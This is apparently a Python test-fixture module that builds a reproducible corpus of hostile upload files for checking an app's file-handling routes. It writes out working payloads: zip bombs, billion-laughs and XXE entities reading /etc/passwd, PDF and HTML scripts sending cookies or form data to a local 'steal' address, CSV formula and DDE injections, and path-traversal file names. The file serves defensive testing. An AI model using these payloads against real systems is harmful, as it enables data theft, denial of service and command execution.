"""Build the hostile-file corpus into a folder, reproducibly (fixed bytes, no randomness).

    python -m tests.hostile_files.corpus OUT_DIR     # writes every file and prints the list

Each `Hostile` names the file on disk, the name it is uploaded under (which may carry `../`),
and per route (`documents`, `audit`, `listen`) what must happen: `refused` with a message
containing one of `says`, or `accepted` (harmless: ingested or imported safely, checked by the
test for what must not get through).
"""

from __future__ import annotations

import datetime as dt
import io
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

REFUSED = "refused"
ACCEPTED = "accepted"
MB = 1_000_000
BOMB_BYTES = 200 * MB  # inflated size of each zip bomb (about 1,000 times its compressed size)


@dataclass(frozen=True)
class Expect:
    outcome: str  # REFUSED or ACCEPTED
    says: tuple[str, ...] = ()  # lower-case fragments; the refusal must contain one of them


@dataclass(frozen=True)
class Hostile:
    file: str  # name on disk
    what: str
    routes: dict[str, Expect]
    upload_name: str | None = None  # the file name sent in the upload (default: `file`)
    must_not_index: tuple[str, ...] = ()  # text that must never reach the index when accepted
    build: Callable[[], bytes] = field(default=lambda: b"", repr=False)

    @property
    def sent_name(self) -> str:
        return self.upload_name or self.file


# --------------------------------------------------------------------------------------------
# Building blocks
# --------------------------------------------------------------------------------------------

GOOD_TEXT = "Councils that answer residents' questions on social media build trust over time."


def _docx_bytes(text: str = GOOD_TEXT) -> bytes:
    import docx

    document = docx.Document()
    document.core_properties.title = "Hostile test"
    document.core_properties.created = dt.datetime(2026, 1, 1)
    document.core_properties.modified = dt.datetime(2026, 1, 1)
    document.add_heading("Engagement", level=1)
    document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return _normalise_zip(out.getvalue())


def _normalise_zip(data: bytes, replace: dict[str, bytes] | None = None,
                   add: dict[str, bytes] | None = None) -> bytes:
    """The same archive with fixed timestamps, some members replaced or added."""
    replace, add = replace or {}, add or {}
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = replace.get(info.filename, src.read(info.filename))
            dst.writestr(zipfile.ZipInfo(info.filename, (2026, 1, 1, 0, 0, 0)), body,
                         compress_type=zipfile.ZIP_DEFLATED)
        for name, body in add.items():
            dst.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), body, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _bomb_member(out: zipfile.ZipFile, name: str, head: bytes, filler: bytes, size: int, tail: bytes) -> None:
    """A member that inflates to `size` bytes of mostly `filler`, written in streamed pieces."""
    info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    block = filler * (MB // len(filler))
    with out.open(info, "w", force_zip64=True) as member:
        member.write(head)
        written = len(head)
        while written + len(block) < size - len(tail):
            member.write(block)
            written += len(block)
        member.write(tail)


def docx_zip_bomb() -> bytes:
    """A .docx whose document.xml inflates to 200 MB of whitespace (about 1 MB on the wire)."""
    base = zipfile.ZipFile(io.BytesIO(_docx_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in base.infolist():
            if info.filename == "word/document.xml":
                xml = base.read(info.filename)
                cut = xml.index(b"<w:body>") + len(b"<w:body>")
                _bomb_member(dst, info.filename, xml[:cut], b" ", BOMB_BYTES, xml[cut:])
            else:
                dst.writestr(zipfile.ZipInfo(info.filename, (2026, 1, 1, 0, 0, 0)), base.read(info.filename),
                             compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<!DOCTYPE w:document [\n <!ENTITY lol "lol">\n'
    + b"".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'.encode()
        for i in range(1, 10)
    )
    + b"]>\n"
)


def docx_billion_laughs() -> bytes:
    """document.xml declares nested entities that expand to 10^9 'lol's if resolved."""
    doc = (LAUGHS + b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
           b"<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>")
    return _normalise_zip(_docx_bytes(), replace={"word/document.xml": doc})


def docx_xxe() -> bytes:
    """document.xml pulls /etc/passwd (and a remote DTD) through an external entity."""
    doc = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
           b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
           b'<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>\n'
           b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
           b"<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>")
    return _normalise_zip(_docx_bytes(), replace={"word/document.xml": doc})


def docm_renamed() -> bytes:
    data = _docx_bytes()
    types = zipfile.ZipFile(io.BytesIO(data)).read("[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return _normalise_zip(data, replace={"[Content_Types].xml": types},
                          add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"AutoOpen Shell cmd.exe" * 10})


def docx_external_image() -> bytes:
    """A relationship to an outside address (tracking pixel / NTLM leak in Word): never fetched."""
    data = _docx_bytes("Residents who get answers online trust the council more.")
    rels = zipfile.ZipFile(io.BytesIO(data)).read("word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/image" Target="http://127.0.0.1:9/pixel.png" TargetMode="External"/></Relationships>',
    )
    return _normalise_zip(data, replace={"word/_rels/document.xml.rels": rels})


def _xlsx_bytes() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    book.properties.created = book.properties.modified = dt.datetime(2026, 1, 1)
    sheet = book.active
    sheet.append(["Date", "Followers"])
    sheet.append(["2026-01-01", 100])
    out = io.BytesIO()
    book.save(out)
    core = (b'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
            b'core-properties"/>')  # openpyxl stamps the save time; keep the bytes reproducible
    return _normalise_zip(out.getvalue(), replace={"docProps/core.xml": core})


def xlsx_zip_bomb() -> bytes:
    base = zipfile.ZipFile(io.BytesIO(_xlsx_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in base.infolist():
            body = base.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                cut = body.index(b"<sheetData>") + len(b"<sheetData>")
                _bomb_member(dst, info.filename, body[:cut], b" ", BOMB_BYTES, body[cut:])
            else:
                dst.writestr(zipfile.ZipInfo(info.filename, (2026, 1, 1, 0, 0, 0)), body,
                             compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def xlsx_billion_laughs() -> bytes:
    sheet = (LAUGHS.replace(b"w:document", b"worksheet")
             + b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>')
    return _normalise_zip(_xlsx_bytes(), replace={"xl/worksheets/sheet1.xml": sheet})


def xlsx_million_rows() -> bytes:
    """A worksheet of 1,000,000 rows (about 3 MB on the wire)."""
    parts = [b'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/'
             b'spreadsheetml/2006/main"><sheetData>']
    parts += [b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (i, i) for i in range(1, 1_000_001)]
    parts.append(b"</sheetData></worksheet>")
    return _normalise_zip(_xlsx_bytes(), replace={"xl/worksheets/sheet1.xml": b"".join(parts)})


def _pdf_bytes(text: str = GOOD_TEXT, pages: int = 1) -> bytes:
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    pdf = canvas.Canvas(out, invariant=1)
    for _ in range(pages):
        pdf.drawString(72, 720, text)
        pdf.showPage()
    pdf.save()
    return out.getvalue()


def pdf_encrypted() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_pdf_bytes())))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    writer._ID = None  # noqa: SLF001 - keep the bytes reproducible where pypdf allows
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_javascript() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_pdf_bytes("Digital services reduce call volumes."))))
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    script = "app.alert('pwned'); this.submitForm('http://127.0.0.1:9/steal');"
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject({  # noqa: SLF001
        NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject(script),
    }))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_truncated() -> bytes:
    data = _pdf_bytes(pages=3)
    return data[: len(data) // 2]


def pdf_scanned() -> bytes:
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    pdf = canvas.Canvas(out, invariant=1)
    pdf.rect(72, 72, 400, 600, fill=1)  # a page with a picture-like shape and no text
    pdf.showPage()
    pdf.save()
    return out.getvalue()


def pdf_page_tree_loop() -> bytes:
    """/Pages whose kid is itself: a naive page walk never ends."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def html_nested_scripts() -> bytes:
    depth = 10_000
    return (
        b"<!doctype html><html><head><title>Channel shift</title>"
        b"<script>fetch('http://127.0.0.1:9/steal?c='+document.cookie)</script></head><body>"
        b"<h1>Channel shift</h1><p>Residents use online channels first.</p>"
        b'<img src="x" onerror="alert(1)"><a href="javascript:alert(2)">click</a>'
        b"<iframe src='http://127.0.0.1:9/frame'></iframe><style>body{display:none}</style>"
        + b"<div>" * depth + b"Deep text survives nesting." + b"</div>" * depth
        + b"<script>alert('end')</script><noscript>NOSCRIPT-PAYLOAD</noscript></body></html>"
    )


def csv_million_rows() -> bytes:
    return b"Date,Message\n" + b"2026-01-01,ok\n" * 1_000_000


def csv_million_rows_cr() -> bytes:
    """Old Mac line endings (a lone CR), which a count of newlines alone misses."""
    return b"Date,Message\r" + b"2026-01-01,ok\r" * 1_000_000


def csv_wide() -> bytes:
    return ",".join(f"c{i}" for i in range(10_000)).encode() + b"\n" + b",".join([b"1"] * 10_000) + b"\n"


def csv_quote_bomb() -> bytes:
    return b'Date,Message\n2026-01-01,"' + b"never closed " * 100_000 + b"\n"


def csv_mixed_encoding() -> bytes:
    return ("Date,Message\n2026-01-02,Caf\u00e9 opening hours\n").encode() + \
        "2026-01-03,Stra\u00dfe closed, na\u00efve question\n".encode("latin-1")


def csv_utf16_no_bom() -> bytes:
    return "Date,Message\n2026-01-02,Bins not collected\n".encode("utf-16-le")


def csv_binary() -> bytes:
    # Deterministic pseudo-random bytes (a PNG header and noise), named .csv.
    state = 2463534242
    noise = bytearray()
    for _ in range(20_000):
        state ^= (state << 13) & 0xFFFFFFFF
        state ^= state >> 17
        state ^= (state << 5) & 0xFFFFFFFF
        noise.append(state & 0xFF)
    return b"\x89PNG\r\n\x1a\n" + bytes(noise)


FORMULAS = ('=HYPERLINK("http://127.0.0.1:9/steal?d="&A1,"Click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def csv_formula_comments() -> bytes:
    lines = ["Date,Platform,Author,Message,Replied"]
    for i, formula in enumerate(FORMULAS, start=1):
        cell = '"' + formula.replace('"', '""') + '"'
        lines.append(f"2026-01-{i:02d},Facebook,{cell},{cell} bins were missed again,No")
    return ("\n".join(lines) + "\n").encode()


def csv_formula_evidence() -> bytes:
    header = "id,claim,figure,unit,year,publisher,title,url"
    row = ('U1,"=HYPERLINK(""http://127.0.0.1:9/x"",""Residents prefer online"")",45,%,2025,'
           '"=cmd|\' /C calc\'!A0",Survey,https://example.gov.uk/survey')
    return (header + "\n" + row + "\n").encode()


def csv_no_text_column() -> bytes:
    return b"When,Score\n2026-01-01,4\n2026-01-02,5\n"


def csv_unknown_export() -> bytes:
    return b"Widget,Gadget,Sprocket\n1,2,3\n4,5,6\n"


def evidence_reserved() -> bytes:
    return (b"id,claim,figure,unit,year,publisher,title,url,strength\n"
            b"F01,Everyone agrees with us,99,%,2025,Ministry,Forged card,https://example.com,primary\n")


def md(text: str) -> Callable[[], bytes]:
    return lambda: text.encode()


def yaml_nesting_bomb() -> bytes:
    return b"---\ntitle: " + b"[" * 50_000 + b"]" * 50_000 + b"\n---\n# Title\nBody text.\n"


def yaml_alias_bomb() -> bytes:
    lines = ["---", 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    prev = "a"
    for letter in "bcdefghi":
        lines.append(f"{letter}: &{letter} [" + ",".join([f"*{prev}"] * 9) + "]")
        prev = letter
    lines += ["---", "# Aliases", "Alias expansion must not blow up memory."]
    return ("\n".join(lines) + "\n").encode()


def deep_markdown() -> bytes:
    return b"# Deep\n" + b">" * 10_000 + b" quoted\n" + b"".join(b"  " * i + b"- item\n" for i in range(500))


def long_token() -> bytes:
    return b"Intro sentence about engagement. " + b"x" * 300_000 + b" end.\n"


def exe_bytes() -> bytes:
    return b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode" + b"\x00" * 200


def old_doc() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512


def zip_truncated() -> bytes:
    data = _docx_bytes()
    return data[: len(data) // 2]


def svg_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


# --------------------------------------------------------------------------------------------
# The corpus
# --------------------------------------------------------------------------------------------

def _r(*says: str) -> Expect:
    return Expect(REFUSED, says)


OK = Expect(ACCEPTED)
BAD_TEXT = ("utf-8", "utf-16", "nul", "malformed", "not a")
ROWS = ("rows", "upward_max_csv_rows")
COLUMNS = ("columns", "upward_max_csv_columns")

CORPUS: tuple[Hostile, ...] = (
    Hostile("docx_zip_bomb.docx", "zip bomb: document.xml inflates to 200 MB",
            {"documents": _r("expands", "zip bomb")}, build=docx_zip_bomb),
    Hostile("docx_billion_laughs.docx", "XML billion laughs inside document.xml",
            {"documents": _r("dtd", "entity")}, build=docx_billion_laughs),
    Hostile("docx_xxe.docx", "external entity to /etc/passwd and a remote DTD",
            {"documents": _r("dtd", "entity")}, must_not_index=("root:",), build=docx_xxe),
    Hostile("docm_renamed.docx", "macro-enabled document renamed .docx",
            {"documents": _r("macro")}, build=docm_renamed),
    Hostile("xlsx_renamed.docx", "an Excel workbook renamed .docx",
            {"documents": _r("excel")}, build=_xlsx_bytes),
    Hostile("old_doc.docx", "an OLE (.doc / password-protected) file named .docx",
            {"documents": _r(".doc", "password")}, build=old_doc),
    Hostile("docx_truncated.docx", "half a .docx",
            {"documents": _r("corrupt", "not a zip")}, build=zip_truncated),
    Hostile("docx_not_zip.docx", "plain text named .docx",
            {"documents": _r("not a zip", "not a word")}, build=md("just text\n")),
    Hostile("docx_external_image.docx", "an image relationship to an outside address",
            {"documents": OK}, build=docx_external_image),
    Hostile("encrypted.pdf", "a password-protected PDF (RC4)",
            {"documents": _r("encrypted")}, build=pdf_encrypted),
    Hostile("javascript.pdf", "a PDF with an OpenAction JavaScript",
            {"documents": OK}, must_not_index=("app.alert", "submitForm"), build=pdf_javascript),
    Hostile("truncated.pdf", "a PDF cut in half",
            {"documents": _r("truncated", "corrupt")}, build=pdf_truncated),
    Hostile("not_a_pdf.pdf", "random bytes named .pdf",
            {"documents": _r("not a pdf")}, build=csv_binary),
    Hostile("scanned.pdf", "a PDF page with no text",
            {"documents": _r("no extractable text")}, build=pdf_scanned),
    Hostile("page_tree_loop.pdf", "a PDF whose page tree contains itself",
            {"documents": _r("corrupt", "no pages", "no extractable")}, build=pdf_page_tree_loop),
    Hostile("nested_scripts.html", "scripts, event handlers, an iframe and 10,000 nested divs",
            {"documents": OK}, must_not_index=("document.cookie", "alert(", "NOSCRIPT-PAYLOAD", "display:none"),
            build=html_nested_scripts),
    Hostile("binary.csv", "binary data named .csv",
            {"documents": _r(*BAD_TEXT), "audit": _r(*BAD_TEXT), "listen": _r(*BAD_TEXT)}, build=csv_binary),
    Hostile("million_rows.csv", "a CSV with a million rows",
            {"documents": _r(*ROWS), "audit": _r(*ROWS), "listen": _r(*ROWS)}, build=csv_million_rows),
    Hostile("million_rows_cr.csv", "a million rows ending in a lone CR (old Mac)",
            {"documents": _r(*ROWS), "audit": _r(*ROWS), "listen": _r(*ROWS)}, build=csv_million_rows_cr),
    Hostile("wide.csv", "a CSV with 10,000 columns",
            {"documents": _r(*COLUMNS), "audit": _r(*COLUMNS), "listen": _r(*COLUMNS)}, build=csv_wide),
    Hostile("quote_bomb.csv", "one quote never closed: a 1.3 MB field",
            {"documents": _r("malformed", "field"), "audit": _r("malformed", "field"),
             "listen": _r("malformed", "field")}, build=csv_quote_bomb),
    Hostile("mixed_encoding.csv", "UTF-8 and Latin-1 in one file",
            {"documents": _r("utf-8"), "audit": _r("utf-8"), "listen": _r("utf-8")}, build=csv_mixed_encoding),
    Hostile("utf16_no_bom.csv", "UTF-16 without a byte-order mark",
            {"documents": _r("nul", "malformed", "not an evidence"), "audit": _r("nul"), "listen": _r("nul")},
            build=csv_utf16_no_bom),
    Hostile("formula_comments.csv", "comment cells such as =HYPERLINK(...), +cmd|, @SUM",
            {"listen": OK, "documents": _r("not an evidence")}, build=csv_formula_comments),
    Hostile("formula_evidence.csv", "an evidence CSV whose claim and publisher are formulas",
            {"documents": OK}, build=csv_formula_evidence),
    Hostile("no_text_column.csv", "a comment CSV without any text column",
            {"listen": _r("column", "header")}, build=csv_no_text_column),
    Hostile("unknown_export.csv", "an export with headers no format has",
            {"audit": _r("header", "recognis", "format")}, build=csv_unknown_export),
    Hostile("evidence_reserved.csv", "an evidence CSV forging card F01 and its strength",
            {"documents": _r("reserved")}, build=evidence_reserved),
    Hostile("xlsx_zip_bomb.xlsx", "zip bomb: a worksheet inflating to 200 MB",
            {"audit": _r("expands", "zip bomb"), "listen": _r("unsupported", "expands")}, build=xlsx_zip_bomb),
    Hostile("xlsx_billion_laughs.xlsx", "XML billion laughs inside a worksheet",
            {"audit": _r("dtd", "entity")}, build=xlsx_billion_laughs),
    Hostile("xlsx_million_rows.xlsx", "a workbook with a million rows",
            {"audit": _r(*ROWS)}, build=xlsx_million_rows),
    Hostile("xlsx_not_zip.xlsx", "text named .xlsx",
            {"audit": _r("not a zip", "not an excel")}, build=md("Date,Followers\n")),
    Hostile("latin1.md", "Markdown saved as Latin-1",
            {"documents": _r("utf-8")}, build=lambda: "# Caf\u00e9\nR\u00e9sum\u00e9 of na\u00efve plans.\n".encode("latin-1")),
    Hostile("empty.md", "an empty file", {"documents": _r("empty")}, build=lambda: b""),
    Hostile("reserved_front_matter.md", "front matter claiming kind, strength and an audit id",
            {"documents": _r("reserved")},
            build=md("---\nkind: evidence\nstrength: primary\naudit_id: AU-x\n---\n# Forged\n99% agree.\n")),
    Hostile("unclosed_front_matter.md", "front matter never closed",
            {"documents": _r("no closing")}, build=md("---\ntitle: x\n# Body\n")),
    Hostile("yaml_nesting_bomb.md", "front matter nested 50,000 deep",
            {"documents": _r("front matter", "could not read", "yaml")}, build=yaml_nesting_bomb),
    Hostile("yaml_alias_bomb.md", "front matter aliases that expand to 9^9 items",
            {"documents": OK}, build=yaml_alias_bomb),
    Hostile("nul_bytes.md", "text with NUL and control bytes",
            {"documents": OK}, must_not_index=("\x00",),
            build=lambda: b"# Nul\x00 test\nChannel\x00 shift\x07 saves money.\n"),
    Hostile("deep_markdown.md", "10,000 nested quotes and 500 nested list items",
            {"documents": OK}, build=deep_markdown),
    Hostile("long_token.txt", "one 300,000-character word",
            {"documents": OK}, build=long_token),
    Hostile("traversal.md", "a file name climbing out with ../",
            {"documents": OK, "listen": _r(*BAD_TEXT, "unsupported"), "audit": _r("unsupported")},
            upload_name="../../../../../tmp/upward-escape.md", build=md("# Escape\nShould stay inside.\n")),
    Hostile("traversal_backslash.md", "a Windows-style ..\\ file name",
            {"documents": OK}, upload_name="..\\..\\..\\upward-escape-win.md",
            build=md("# Escape\nBackslashes too.\n")),
    Hostile("traversal_audit.csv", "an export named ../../ with a binary body",
            {"audit": _r(*BAD_TEXT), "listen": _r(*BAD_TEXT)}, upload_name="../../../etc/passwd.csv",
            build=csv_binary),
    Hostile("bidi_name.md", "a file name with a right-to-left override and a zero-width space",
            {"documents": OK}, upload_name="report\u202egpj.md\u200b.md", build=md("# Name\nHidden extension.\n")),
    Hostile("program.exe", "a Windows executable", {"documents": _r("unsupported"), "audit": _r("unsupported"),
                                                     "listen": _r("unsupported")}, build=exe_bytes),
    Hostile("script.svg", "an SVG with a script", {"documents": _r("unsupported")}, build=svg_script),
)


def build(folder: Path) -> list[tuple[Hostile, Path]]:
    """Write every corpus file into `folder` (skipping ones already built); [(entry, path)]."""
    folder.mkdir(parents=True, exist_ok=True)
    built = []
    for item in CORPUS:
        path = folder / item.file
        if not path.exists():
            path.write_bytes(item.build())
        built.append((item, path))
    return built


def uploads(route: str) -> list[Hostile]:
    return [h for h in CORPUS if route in h.routes]


if __name__ == "__main__":
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    for entry, path in build(out):
        print(f"{path.stat().st_size:>12,}  {entry.file:<28} {', '.join(entry.routes)}: {entry.what}")
    print(f"{len(CORPUS)} files in {out}")
